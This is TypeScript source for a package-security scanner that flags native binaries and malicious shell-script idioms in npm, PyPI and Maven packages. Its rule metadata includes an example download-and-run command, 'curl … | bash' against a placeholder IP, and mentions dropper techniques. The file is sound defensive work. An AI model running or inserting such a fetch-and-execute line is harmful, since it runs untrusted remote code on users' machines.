import type { Analyzer, Finding, RuleMeta } from '../../core/types.js';
import { makeFinding } from '../../rules/finding.js';
import { analyzeCommand } from '../shell/command.js';
import { scanTextForIocs } from '../text/iocs.js';
import { binaryFindings, OPAQUE_BLOB, UNEXPLAINED_BINARY } from './binaries.js';

const files = { analyzer: 'files', ecosystems: ['npm', 'pypi', 'maven'] } as const;

export const NATIVE_BINARY: RuleMeta = {
  ...files,
  id: 'BIN-001',
  name: 'native-executable',
  category: 'dropper',
  severity: 'low',
  confidence: 'low',
  description: 'The package ships a native executable or library (ELF, PE, Mach-O) rather than building it.',
  rationale:
    'Prebuilt binaries cannot be reviewed like source; droppers ship them to run at install (Windows DLLs started with rundll32, ELF miners).',
  falsePositives: 'Prebuilt addons and CLIs distributed per platform (esbuild, swc, sharp, fsevents).',
  references: ['https://socket.dev/npm/issue/hasNativeCode'],
};

export const SHELL_SCRIPT_TECHNIQUE: RuleMeta = {
  ...files,
  id: 'SH-001',
  name: 'shell-script-technique',
  category: 'dropper',
  severity: 'high',
  confidence: 'medium',
  description:
    'A shell/batch/PowerShell script in the package uses a malicious idiom (download-and-run, reverse shell, encoded commands).',
  rationale: 'Scripts shipped next to an install hook are how many droppers run their second stage.',
  falsePositives: 'Developer scripts (release, CI) that download toolchains.',
  example: 'curl -fsSL https://192.0.2.1/a | bash',
  references: ['https://attack.mitre.org/techniques/T1059/'],
};

const SCRIPT_EXT = /\.(sh|bash|zsh|command|bat|cmd|ps1|psm1|vbs)$/i;

/** Binaries and non-JS scripts: classifies native code and analyses shell scripts line by line. */
export const filesAnalyzer: Analyzer = {
  id: 'files',
  appliesTo: () => true,
  analyze(pkg) {
    const findings: Finding[] = [];
    for (const file of pkg.artifact.files) {
      const context = pkg.contextOf(file.path);
      if (
        file.kind === 'binary' &&
        (file.binaryType === 'elf' ||
          file.binaryType === 'pe' ||
          file.binaryType === 'macho' ||
          file.binaryType === 'node-addon')
      ) {
        const entry = pkg.entryPoints.get(file.path);
        findings.push(
          makeFinding(NATIVE_BINARY, {
            file: file.path,
            context: entry ?? context,
            message: `${file.path} is a ${file.binaryType.toUpperCase()} binary (${file.size} bytes)${entry === 'install' ? ' that the install script runs' : ''}.`,
            severity:
              entry === 'install'
                ? 'high'
                : file.binaryType === 'pe' && pkg.artifact.ecosystem === 'npm'
                  ? 'medium'
                  : undefined,
            evidence: { binaryType: file.binaryType, size: file.size },
          }),
        );
        continue;
      }
      if (file.kind !== 'text' || !SCRIPT_EXT.test(file.path)) continue;
      const text = file.data.toString('utf8');
      const lines = text.split(/\r?\n/);
      for (let i = 0; i < lines.length; i++) {
        const line = lines[i]!;
        if (!line.trim() || /^\s*(#|rem\b|::)/i.test(line)) continue;
        for (const t of analyzeCommand(line)) {
          if (t.severity !== 'high' && t.severity !== 'critical') continue;
          const f = makeFinding(SHELL_SCRIPT_TECHNIQUE, {
            file: file.path,
            line: i + 1,
            snippet: line,
            context,
            severity: t.severity,
            message: `${file.path} ${t.description}.`,
            evidence: { technique: t.id },
          });
          f.category = t.category;
          findings.push(f);
        }
      }
      findings.push(...scanTextForIocs(file.path, text, context));
    }
    findings.push(...binaryFindings(pkg));
    return findings;
  },
};

export const FILE_RULES: RuleMeta[] = [
  NATIVE_BINARY,
  SHELL_SCRIPT_TECHNIQUE,
  UNEXPLAINED_BINARY,
  OPAQUE_BLOB,
];
